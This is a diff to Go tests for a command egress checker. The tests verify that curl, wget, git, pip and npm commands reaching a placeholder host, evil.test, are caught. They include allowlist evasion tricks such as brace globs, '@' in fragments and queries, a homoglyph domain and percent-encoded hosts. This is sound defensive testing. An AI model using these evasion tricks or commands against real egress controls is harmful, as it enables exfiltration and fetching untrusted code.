@@ -113,6 +113,10 @@ func TestProxyModeAgreesWithProxy(t *testing.T) {
 		{"pip PEP 508", "pip install 'pkg @ https://files.pythonhosted.org/p.whl'", pass},
 		{"pip find-links directory", "pip install -f ./wheels x", pass},
 		{"npm --registry", "npm install --registry https://registry.npmjs.org/ x", pass},
+		{"curl brace glob in the path", "curl 'https://allowed.test/{a,b}.html' 'https://allowed.test/p[1-3].html'", pass},
+		{"curl brace glob in the host", "curl 'https://{www,api}.github.com/'", pass},
+		{"git clone option values", "git clone -b main --depth 1 -o up https://github.com/o/r", pass},
+		{"query hides an at sign", "curl 'https://allowed.test?@evil.test/'", pass},
 		{"not a network program", "echo https://evil.test/; grep evil.test notes.txt", pass},
 		// Destinations computed at run time are left to the proxy.
 		{"URL in a variable", `u=https://evil.test/; curl "$u"`, pass},
@@ -128,6 +132,9 @@ func TestProxyModeAgreesWithProxy(t *testing.T) {
 		{"suffix without a label boundary", "curl https://evilgithub.com/", host("evilgithub.com")},
 		{"wildcard does not cover look-alike", "curl https://gіthub.com/", host("gіthub.com")},
 		{"static host, dynamic path", `curl "https://evil.test/$p"`, host("evil.test")},
+		{"curl brace glob reaching off the list", "curl 'https://{allowed,evil}.test/'", host("evil.test")},
+		{"fragment hides the host", "curl 'http://evil.test#@allowed.test/'", host("evil.test")},
+		{"git fetch after an option value", "git fetch --depth 1 git@evil.test:r", host("evil.test")},
 		{"wget off the list", "wget http://evil.test/x", host("evil.test")},
 		{"git clone off the list", "git clone https://evil.test/r.git", host("evil.test")},
 		{"git scp-like off the list", "git clone git@evil.test:r.git", host("evil.test")},
@@ -178,6 +185,8 @@ func TestProxyModeAgreesWithProxy(t *testing.T) {
 			`"https://evil%2etest/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
 		{"percent-encoded allowed host", "curl https://allowed%2etest/", invalid(
 			`"https://allowed%2etest/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
+		{"curl brace glob left as written with -g", "curl -g 'https://{allowed,evil}.test/'", invalid(
+			`"https://{allowed,evil}.test/": cannot tell which host it names: parse "https://{allowed,evil}.test/": invalid character "{" in host name`)},
 		{"IPv6 zone", "curl 'http://[fe80::1%25eth0]/'", invalid(
 			`"http://[fe80::1%25eth0]/": a percent-encoded host: clients disagree on which host it names; write the host name plainly`)},
 	}
@@ -250,4 +259,25 @@ func TestWithEgress(t *testing.T) {
 	if strings.Contains(wide.Config().SHA256, " ") {
 		t.Fatal("config hash")
 	}
+}
+
+// FuzzProxyModeCommand: reading the destinations of any command line in
+// proxy mode never panics, and a refusal always carries a code and a
+// message.
+func FuzzProxyModeCommand(f *testing.F) {
+	for _, s := range []string{
+		"curl https://evil.test/", "git -c url.insteadOf=x clone https://github.com/o/r", "git -c url..insteadof=x fetch y",
+		"python3 -m pip install -i https://evil.test/ x", "python3 -m", "pip install 'a @ b://c'", "curl '{a,b}://x'",
+		"npm --@s:registry=https://evil.test/ i", "git push [::1]:r", "wget 0x7f.1", "curl http://4294967296/", "curl http://0x/",
+		"git fetch --depth", "curl 'https://x.test/{'", "curl ://x", "pip install git+://x",
+	} {
+		f.Add(s)
+	}
+	tw := newTripwire(f, egressRules(f, testDomains, testCIDRs))
+	f.Fuzz(func(t *testing.T, cmd string) {
+		v := checkCommand(tw, cmd)
+		if v.Denied() && (v.Code == "" || v.Message == "") {
+			t.Fatalf("%q: refusal without a reason: %+v", cmd, v)
+		}
+	})
 }
